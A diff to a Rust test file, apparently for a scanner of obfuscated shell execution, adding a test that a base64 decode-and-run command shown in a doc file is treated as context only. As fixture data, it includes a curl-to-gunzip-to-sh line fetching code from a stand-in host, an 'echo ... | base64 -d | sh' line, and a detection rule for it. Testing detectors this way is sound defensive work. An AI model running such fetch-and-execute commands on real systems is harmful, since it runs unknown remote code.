@@ -153,7 +153,16 @@ fn decoding_into_a_file_is_not_running() {
         "#!/bin/sh\neval \"$(ssh-agent -s)\"\neval $(dircolors -b)\ncurl -s https://host.example/i | gunzip | sh\n",
         &[],
     );
-    // A document that explains the attack, and a rule that finds it.
+    // A document that shows the attack only explains.
+    let mut image = Fixture::new();
+    image.file(
+        "usr/share/doc/attacks.md",
+        0o644,
+        format!("An attack:\n\n    echo {text} | base64 -d | sh\n").as_bytes(),
+    );
+    let out = image.run(&Obfuscation);
+    assert!(out.findings.iter().all(|one| one.role == Role::Context), "{:?}", out.findings);
+    // A sentence about it, and a rule that finds it.
     check(format!("# Detects `echo {text} | base64 -d | sh`\nrule: 'base64 -d | sh'\n"), &[]);
 }
 
